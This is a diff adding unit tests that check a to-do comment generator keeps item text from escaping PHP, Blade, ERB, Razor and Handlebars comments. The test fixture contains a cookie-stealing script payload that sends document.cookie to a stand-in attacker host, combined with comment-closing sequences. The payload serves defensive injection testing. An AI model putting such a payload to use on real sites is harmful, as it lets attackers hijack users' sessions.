@@ -136,6 +136,20 @@ describe('Action Items view', () => {
       assert.doesNotMatch(comment.slice(2, -2), /\/\*/, 'none opens a nested comment either');
     });
 
+    // Review 2, S9 (todo_php.js): PHP ends a `//` or `#` comment at `?>` (php.net, "Comments"), and an ERB comment
+    // ends at `%>` (ruby/erb compiler.rb): an item text could leave the comment and become page output.
+    const template = todoItem(meeting(1), 't', 'Fix the login page ?><script>fetch("https://attacker.example/?c="+document.cookie)</script><?php %><% x %> --}} *@ -->', 'Ben', false);
+    for (const [language, open, close] of [['php', '//', ''], ['blade', '{{--', '--}}'], ['erb', '<%#', '%>'], ['razor', '@*', '*@'], ['handlebars', '{{!--', '--}}']] as const) {
+      it(`${language}: ${[open, close].filter(Boolean).join(' ')} holds \`?>\`, \`%>\` and its own closer`, () => {
+        const comment = todoComment(language, template);
+        assert.ok(comment.startsWith(`${open} TODO(Ben): Fix the login page `) && comment.endsWith(close ? ` ${close}` : ')'), comment);
+        const inside = comment.slice(open.length, comment.length - close.length);
+        if (language !== 'razor' && language !== 'handlebars') assert.doesNotMatch(inside, /\?>|%>/, comment);
+        if (close) assert.ok(!inside.includes(close), comment);
+        assert.ok(inside.includes('<script>fetch('), 'the words are kept');
+      });
+    }
+
     for (const [language, open] of [['typescript', '//'], ['c', '//'], ['some-new-language', '//'], ['python', '#'], ['shellscript', '#'], ['yaml', '#'], ['sql', '--']] as const) {
       it(`${language}: ${open}`, () => {
         const comment = todoComment(language, hostile);
